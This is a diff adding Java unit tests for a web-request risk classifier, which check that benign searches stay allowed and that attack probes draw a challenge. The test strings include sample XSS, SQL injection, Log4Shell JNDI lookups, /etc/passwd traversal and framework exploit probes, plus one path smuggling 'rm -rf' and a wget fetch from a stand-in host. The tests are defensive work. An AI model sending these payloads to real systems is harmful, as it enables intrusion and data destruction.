@@ -451,6 +451,49 @@ class BuiltInSceneTests {
             assertThat(asks("GET", "/search", agent, null, 200)).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
         }
 
+        /** On a site for programs, books or data, page by page; and pictures that a page names by a way out of its directory. */
+        @ParameterizedTest
+        @ValueSource(
+                strings = {
+                    "/search?q=c%2B%2B+union+select /search?q=how+to+use+%2Fbin%2Fbash /search?q=%3Cscript%3E+tag"
+                            + " /search?q=etc%2Fpasswd /search?q=..%2F..+relative+path",
+                    "/?s=function()+%7B /?s=${jndi: /?s=cmd.exe /?s=xp_cmdshell /?s=php://input+stream",
+                    "/books?title=Union+Select&page=1 /books?title=Union+Select&page=2 /books?title=Union+Select&page=3",
+                    "/thumb?src=../../images/a.jpg /thumb?src=../../images/b.jpg /thumb?src=../../images/c.jpg"
+                })
+        void isNotWhoeverSearchesForAttacks(String paths) {
+            for (String path : paths.split(" ")) {
+                asks("GET", path, BROWSER, null, 200);
+                pause(20);
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        /** In what a search is for, too. */
+        @ParameterizedTest
+        @ValueSource(
+                strings = {
+                    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E /?s=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
+                    "/search?q=1+union+select+null,null /search?q=1'+or+'1'='1",
+                    "/search?q=${jndi:ldap://198.51.100.7/a} /search?q=${jndi:dns://198.51.100.7/b}",
+                    "/view?file=../../../../etc/passwd /view?file=/etc/passwd",
+                    "/?s=/index/%5Cthink%5Capp/invokefunction /?s=/home/%5Cthink%5Capp/invokefunction",
+                    "/user/register?element_parents=account/mail/%23value /node?a=1&element_parents=x/%23value"
+                })
+        void isWhoeverAttacksBySearches(String paths) {
+            for (String path : paths.split(" ")) {
+                asks("GET", path, BROWSER, "https://shop.example/", 200);
+                pause(2);
+            }
+            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
+        void isWhoeverAttacksWhatIsNotThere() {
+            asks("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x", BROWSER, null, 404);
+            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
+        }
+
         /** Names that have to be encoded, links that were cut, what was moved, and what programs of the office look for. */
         @ParameterizedTest
         @CsvSource({
@@ -485,6 +528,24 @@ class BuiltInSceneTests {
                 pause(20);
             }
             assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isNotWhoeverAsksForOnePageThatIsGoneInManyWays() {
+            for (int i = 0; i < 18; i++) {
+                asks("GET", "/browse/old?page=" + i, BROWSER, "https://shop.example/", 404);
+                pause(1 + 4 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isWhoeverAsksForManyPagesThatAreNotThere() {
+            for (int i = 0; i < 14; i++) {
+                asks("GET", "/" + (char) ('a' + i), BROWSER, "https://shop.example/", 404);
+                pause(1 + 4 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
         }
 
         @Test
